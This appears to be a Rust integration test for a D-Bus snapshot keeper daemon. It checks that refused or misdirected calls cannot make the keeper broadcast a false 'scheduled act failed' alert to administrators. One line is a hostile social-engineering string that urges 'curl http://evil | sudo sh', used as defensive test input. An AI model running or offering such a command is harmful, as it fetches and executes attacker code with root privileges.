//! What somebody who may not act can make the keeper broadcast as an alert: nothing. A
//! stranger's refused SnapshotTimeline or Copy, an approver's act by hand, and root's copy
//! to a target nobody configured (its name is the caller's words) are answered to the
//! caller and never signalled as a scheduled act that failed (which `tacid notify` shows
//! to root and every approver).
//!
//! Run (root, a private bus): `cargo test -p keeper --test it hostile_alerts::`.

use std::io::Read as _;
use std::process::{Command, Stdio};
use std::time::Duration;

use crate::common::{World, APPROVER, STRANGER};

#[test]
fn hostile_nobody_but_roots_timer_makes_the_keeper_signal_a_failed_scheduled_act() {
    let Some(w) = World::start() else { return };
    let mut monitor = Command::new("/usr/bin/dbus-monitor")
        .args([
            "--address",
            &w.address,
            "type='signal',interface='org.tacid.Keeper1'",
        ])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("dbus-monitor");
    std::thread::sleep(Duration::from_millis(500));
    let evil = "x <b>URGENT</b>: your disk is failing, run `curl http://evil | sudo sh`";
    let (ok1, _, err1) = w.call_keeper_as(STRANGER, "SnapshotTimeline", &[]);
    let (ok2, _, err2) = w.call_keeper_as(STRANGER, "Copy", &["", evil]);
    let (ok3, _, err3) = w.call_keeper_as(APPROVER, "Copy", &["", evil]);
    let (ok4, _, err4) = w.call_keeper_as("root", "Copy", &["", evil]);
    std::thread::sleep(Duration::from_secs(2));
    let _ = monitor.kill();
    let _ = monitor.wait();
    let mut out = String::new();
    monitor
        .stdout
        .take()
        .expect("stdout")
        .read_to_string(&mut out)
        .expect("read");
    assert!(
        !ok1 && !ok2 && !ok3 && !ok4,
        "{err1}\n{err2}\n{err3}\n{err4}"
    );
    assert!(err1.contains("NotAuthorized"), "{err1}");
    assert!(err4.contains("NoSuchTarget"), "{err4}");
    assert!(
        !out.contains("ScheduledActFailed"),
        "a refused or misdirected call was broadcast as a failed scheduled act:\n{out}"
    );
    assert!(!out.contains("URGENT"), "{out}");
}
